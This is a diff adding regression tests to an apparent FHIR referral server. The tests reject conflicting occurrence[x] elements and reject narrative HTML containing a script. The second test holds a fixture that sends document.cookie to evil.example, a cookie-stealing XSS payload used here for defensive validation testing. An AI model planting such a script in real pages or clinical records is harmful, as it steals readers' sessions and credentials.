@@ -193,3 +193,37 @@ describe('holds (tried by breakit21, already correct — kept as regression test
     expect(ext.json<{ _status?: unknown }>()._status).toEqual({ extension: [{ url: 'http://unknown.example/s', valueString: 'z' }] });
   });
 });
+
+describe('resource validity on create (R4 json.html choice elements, narrative.html)', () => {
+  // R4 json.html (Choice of Datatypes) and formats.html: an element `occurrence[x]` is one element —
+  // "only one of the choices may be present"; a resource with both occurrenceDateTime and
+  // occurrencePeriod is not valid FHIR (structural error → 400 per the CapabilityStatement's own
+  // documentation: "Structural errors ... give 400").
+  // Expected: 400 OperationOutcome naming occurrence[x]; nothing stored.
+  // Actual: 201 — the referral is stored with two different "when to perform" values and served
+  // back so to every reader ("Elements Radvis does not model are kept as sent").
+  it('occurrenceDateTime and occurrencePeriod together → 400, nothing stored', async () => {
+    const before = await referralCount(w.t.db.kysely);
+    const res = await fhirPost(
+      w.t.app,
+      variantReferral('b21-two-occurrences', { occurrenceDateTime: '2026-12-20', occurrencePeriod: { start: '2027-01-10', end: '2027-01-20' } }),
+    );
+    expect(res.statusCode, res.body.slice(0, 300)).toBe(400);
+    expect(await referralCount(w.t.db.kysely)).toBe(before);
+  });
+
+  // R4 narrative.html: Narrative.div is limited XHTML — "The XHTML content SHALL NOT contain a head,
+  // a body, external stylesheet references, scripts, forms, base/link/xlink, frames, iframes and
+  // objects" (invariant txt-1), and R4 security.html#narrative: a system receiving narrative must
+  // not pass on active content. Radvis keeps elements it does not model "as sent" and serves them
+  // to every FHIR reader of the referral (record systems commonly render text.div).
+  // Expected: a ServiceRequest whose text.div holds a <script> element → 400 (txt-1), nothing stored.
+  // Actual: 201, and GET /fhir/ServiceRequest/{id} serves the <script> back.
+  it('text.div with a <script> element → 400 (txt-1), not stored and served back', async () => {
+    const before = await referralCount(w.t.db.kysely);
+    const div = '<div xmlns="http://www.w3.org/1999/xhtml"><p>Henvisning</p><script>fetch("https://evil.example/?c="+document.cookie)</script></div>';
+    const res = await fhirPost(w.t.app, variantReferral('b21-script-narrative', { text: { status: 'generated', div } }));
+    expect(res.statusCode, res.body.slice(0, 300)).toBe(400);
+    expect(await referralCount(w.t.db.kysely)).toBe(before);
+  });
+});
